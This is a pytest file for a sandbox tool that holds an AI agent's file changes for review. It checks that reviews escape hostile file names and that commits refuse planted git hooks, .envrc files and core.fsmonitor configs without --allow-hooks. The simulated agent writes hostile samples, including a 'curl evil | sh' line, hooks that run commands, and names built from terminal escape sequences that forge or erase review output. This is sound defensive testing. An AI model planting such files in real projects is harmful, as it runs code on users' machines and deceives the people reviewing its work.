"""Hostile names in reviews, and hook-like files held back from a commit.

An agent names a directory so that printing it moves the cursor and erases the review around it,
names two files so that they print alike, and plants files that run code on the host later
(git hooks, a git config with core.fsmonitor, .envrc). Every review (`booth diff`, `jukebox diff`
and `log`, `--commit ask`) shows each name visibly and unambiguously, and no commit applies a
hook-like file without --allow-hooks.
"""

from __future__ import annotations

import base64
import json
import os
import re
from pathlib import Path

import pytest

from jukebox.display.names import name_json, printable, visible
from tests.booth.conftest import nobody_dir  # noqa: F401  (fixture)
from tests.booth.test_booth_ask import run_on_a_terminal
from tests.reliability.conftest import (
    AGENT_PYTHON,
    JUKEBOX,
    NOBODY,
    booth_argv,
    jb,
    tree_state,
)

pytestmark = pytest.mark.usefixtures("booth_ready")

# What a terminal acts on or hides: C0 but newline, DEL, C1, bidi overrides and isolates.
_ACTING = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]")

ERASER = b"zz\r\x1b[3A\x1b[J\x1b]0;owned\x07D forged.txt"  # a directory
BYTE_NAME = b"a\xc3"  # not valid UTF-8
LITERAL_NAME = b"a\\xc3"  # backslash, x, c, 3: valid ASCII
BIDI_NAME = "invoice\u202etxt.exe".encode()
C1_NAME = "c1\u009b2J".encode()  # U+009B is CSI on terminals that take 8-bit controls
NEWLINE_NAME = b"line\nA fake.txt"

NAMES_AGENT = f"""
import os
for name in {[ERASER, BYTE_NAME, LITERAL_NAME, BIDI_NAME, C1_NAME, NEWLINE_NAME]!r}:
    if name == {ERASER!r}:
        os.mkdir(name)
        open(name + b"/inside", "w").write("x")
    else:
        open(name, "w").write("x")
os.makedirs(".git/hooks")
open(".git/hooks/pre-commit", "w").write("#!/bin/sh\\ntouch /tmp/owned\\n")
os.chmod(".git/hooks/pre-commit", 0o755)
open(".envrc", "w").write("curl evil | sh\\n")
"""


def test_visible_escapes_every_acting_character_and_keeps_names_apart() -> None:
    assert visible(b"plain name.txt") == "plain name.txt"
    assert visible(BYTE_NAME) == "a\\xc3"
    assert visible(LITERAL_NAME) == "a\\\\xc3"
    assert visible(ERASER).startswith("zz\\r\\x1b[3A\\x1b[J\\x1b]0;owned\\x07")
    assert visible(BIDI_NAME) == "invoice\\u202etxt.exe"
    assert visible(C1_NAME) == "c1\\u009b2J"
    assert visible("nb\u00a0sp\u200bzw\ufeff".encode()) == "nb\\u00a0sp\\u200bzw\\ufeff"
    assert visible("café 日本".encode()) == "café 日本"
    # The C1 character U+0085 (bytes C2 85) and the lone byte 0x85 are different names.
    assert visible("\u0085".encode()) != visible(b"\x85")
    names = [ERASER, BYTE_NAME, LITERAL_NAME, BIDI_NAME, C1_NAME, NEWLINE_NAME, b"a\\\\xc3"]
    shown = [visible(n) for n in names]
    assert len(set(shown)) == len(names)
    assert not any(_ACTING.search(s) or "\n" in s for s in shown)
    # Free text keeps its backslashes but loses its escape sequences.
    assert printable("C:\\dir \x1b[2J") == "C:\\dir \\x1b[2J"


def test_name_json_round_trips_names_that_are_not_utf8() -> None:
    def back(obj: dict[str, str]) -> bytes:
        return base64.b64decode(obj["path_b64"]) if "path_b64" in obj else obj["path"].encode()

    for name in (BYTE_NAME, LITERAL_NAME, ERASER, BIDI_NAME, b"\xff\xfe"):
        assert back(json.loads(json.dumps(name_json(name)))) == name
    assert name_json(BYTE_NAME)["path"] == name_json(LITERAL_NAME)["path"][0] + "\\xc3"
    assert "path_b64" not in name_json(LITERAL_NAME)


def _clean(text: str) -> None:
    bad = _ACTING.search(text)
    assert bad is None, f"raw {bad.group()!r} reaches the terminal in:\n{text!r}"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """One FUSE booth, kept pending, whose agent made every hostile name and two hook files."""
    root = tmp_path_factory.mktemp("hostile")
    tree, tapes = root / "tree", root / "tapes"
    tree.mkdir()
    (tree / "a.txt").write_text("one\n")
    proc = jb(
        *booth_argv(tree, tapes, "names", "--commit", "never"), AGENT_PYTHON, "-c", NAMES_AGENT
    )
    assert proc.returncode == 0, proc.stderr
    return tree, tapes


def test_booth_diff_shows_every_name_visibly(hostile: tuple[Path, Path]) -> None:
    _, tapes = hostile
    proc = jb("booth", "diff", "names", "--tape-dir", str(tapes))
    assert proc.returncode == 0, proc.stderr
    _clean(proc.stdout)
    lines = proc.stdout.splitlines()
    # One line per change, none forged: 6 names + the directory's file + .git, its hooks dir,
    # the hook, and .envrc.
    assert len(lines) == 11, lines
    for name in (BYTE_NAME, LITERAL_NAME, BIDI_NAME, C1_NAME, NEWLINE_NAME):
        assert f"A {visible(name)}  (1 bytes)" in lines
    assert f"A {visible(ERASER)}" in lines
    assert f"A {visible(ERASER + b'/inside')}  (1 bytes)" in lines


def test_jukebox_diff_and_log_show_names_visibly_and_json_round_trips(
    hostile: tuple[Path, Path],
) -> None:
    _, tapes = hostile
    log = jb("log", "names", "--tape-dir", str(tapes))
    assert log.returncode == 0, log.stderr
    _clean(log.stdout)
    frames = json.loads(jb("log", "names", "--tape-dir", str(tapes), "--json").stdout)["frames"]
    span = ("names@0", f"names@{len(frames) - 1}", "--tape-dir", str(tapes))
    text = jb("diff", *span)
    assert text.returncode == 0, text.stderr
    _clean(text.stdout)
    assert f"A  {visible(BYTE_NAME)}" in text.stdout
    assert f"A  {visible(LITERAL_NAME)}" in text.stdout
    as_json = jb("diff", *span, "--json")
    assert as_json.returncode == 0, as_json.stderr
    names = set()
    for change in json.loads(as_json.stdout)["changes"]:
        raw = change.get("path_b64")
        names.add(base64.b64decode(raw) if raw else change["path"].encode())
    assert {BYTE_NAME, LITERAL_NAME, ERASER, BIDI_NAME, C1_NAME, NEWLINE_NAME} <= names


def test_booth_commit_refuses_hooks_without_allow_hooks(hostile: tuple[Path, Path]) -> None:
    tree, tapes = hostile
    before = tree_state(tree)
    refused = jb("booth", "commit", "names", "--tape-dir", str(tapes))
    assert refused.returncode == 1, refused.stderr
    message = refused.stderr.strip()
    assert len(message.splitlines()) == 1, message
    assert ".git/hooks/pre-commit" in message and ".envrc" in message
    assert "--allow-hooks" in message
    assert tree_state(tree) == before
    listed = jb("booth", "ls", "--tape-dir", str(tapes))
    assert "names" in listed.stdout, listed.stdout
    committed = jb("booth", "commit", "names", "--tape-dir", str(tapes), "--allow-hooks")
    assert committed.returncode == 0, committed.stderr
    assert (tree / ".git/hooks/pre-commit").exists()
    assert {os.fsencode(n) for n in os.listdir(os.fsencode(tree))} >= {BYTE_NAME, LITERAL_NAME}


GIT_CONFIG_AGENT = """
mkdir -p .git && printf '[core]\\n\\tbare = false\\n[user]\\n\\tname = agent\\n' > .git/config
printf '#!/bin/sh\\n' > .git/hooks.sample 2>/dev/null; mkdir -p .git/hooks
printf '#!/bin/sh\\n' > .git/hooks/pre-commit.sample
echo changed > a.txt
"""
FSMONITOR = "printf '[core]\\n\\tfsmonitor = \"touch /tmp/owned\"\\n' >> .git/config"


@pytest.mark.parametrize("fs", ["fuse", "overlay"])
def test_auto_commit_holds_back_a_git_config_that_runs_a_program(tmp_path: Path, fs: str) -> None:
    tree, tapes = tmp_path / "tree", tmp_path / "tapes"
    tree.mkdir()
    (tree / "a.txt").write_text("one\n")
    # An ordinary git config (no program in it) and a sample hook: committed as any change.
    plain = jb(*booth_argv(tree, tapes, "plain", "--fs", fs), "sh", "-c", GIT_CONFIG_AGENT)
    assert plain.returncode == 0, plain.stderr
    assert (tree / "a.txt").read_text() == "changed\n" and (tree / ".git/config").exists()
    before = tree_state(tree)
    held = jb(*booth_argv(tree, tapes, "fsmon", "--fs", fs), "sh", "-c", FSMONITOR)
    assert held.returncode == 1, held.stderr
    assert tree_state(tree) == before
    refusal = [line for line in held.stderr.splitlines() if "--allow-hooks" in line]
    assert len(refusal) == 1 and ".git/config (sets core.fsmonitor)" in refusal[0], held.stderr
    assert "fsmon" in jb("booth", "ls", "--tape-dir", str(tapes)).stdout
    allowed = jb(
        *booth_argv(tree, tapes, "allowed", "--fs", fs, "--allow-hooks"), "sh", "-c", FSMONITOR
    )
    assert allowed.returncode == 0, allowed.stderr
    assert "fsmonitor" in (tree / ".git/config").read_text()


def test_a_conflict_list_shows_names_visibly(tmp_path: Path) -> None:
    tree, tapes = tmp_path / "tree", tmp_path / "tapes"
    tree.mkdir()
    made = jb(
        *booth_argv(tree, tapes, "clash", "--commit", "never"),
        "sh", "-c", "printf new > \"$(printf 'x\\033[2J')\"",
    )  # fmt: skip
    assert made.returncode == 0, made.stderr
    (tree / "x\x1b[2J").write_text("the host's own")
    refused = jb("booth", "commit", "clash", "--tape-dir", str(tapes))
    assert refused.returncode == 1, refused.stderr
    _clean(refused.stderr)
    assert "x\\x1b[2J" in refused.stderr


def test_an_unprivileged_booth_holds_back_hook_files_too(
    nobody_python: str, nobody_dir: Path, open_dev_fuse: None  # noqa: F811
) -> None:
    tree, tapes = nobody_dir / "tree", nobody_dir / "tapes"
    tree.mkdir()
    os.chown(tree, NOBODY, NOBODY)
    before = tree_state(tree)
    hook = ".git/hooks/post-checkout"
    agent = f"mkdir -p .git/hooks && echo 'touch /tmp/owned' > {hook} && echo x > ok"
    held = jb(
        *booth_argv(tree, tapes, "u1"), "sh", "-c", agent,
        python=nobody_python, user=NOBODY, cwd=nobody_dir,
    )  # fmt: skip
    assert held.returncode == 1, held.stderr
    assert ".git/hooks/post-checkout (a git hook)" in held.stderr and "--allow-hooks" in held.stderr
    assert tree_state(tree) == before
    committed = jb(
        "booth", "commit", "u1", "--tape-dir", str(tapes), "--allow-hooks",
        python=nobody_python, user=NOBODY, cwd=nobody_dir,
    )  # fmt: skip
    assert committed.returncode == 0, committed.stderr
    assert (tree / "ok").read_text() == "x\n" and (tree / ".git/hooks/post-checkout").exists()


def test_ask_shows_hook_files_first_and_the_names_visibly(tmp_path: Path) -> None:
    tree, tapes = tmp_path / "tree", tmp_path / "tapes"
    tree.mkdir()
    env = dict(os.environ, PATH=f"{Path(JUKEBOX).parent}:{os.environ.get('PATH', '')}")
    agent = "mkdir -p .vscode && echo '{}' > .vscode/tasks.json && mkdir \"$(printf 'x\\033[2J')\""
    _, screen = run_on_a_terminal(
        [JUKEBOX, *booth_argv(tree, tapes, "ask", "--commit", "ask"), "sh", "-c", agent], "n", env
    )
    assert "\x1b[2J" not in screen and "x\\x1b[2J" in screen, screen
    warning = screen.index(".vscode/tasks.json")
    assert "!!" in screen[:warning] and warning < screen.index("change(s)\r\n"), screen
    assert not (tree / ".vscode").exists()
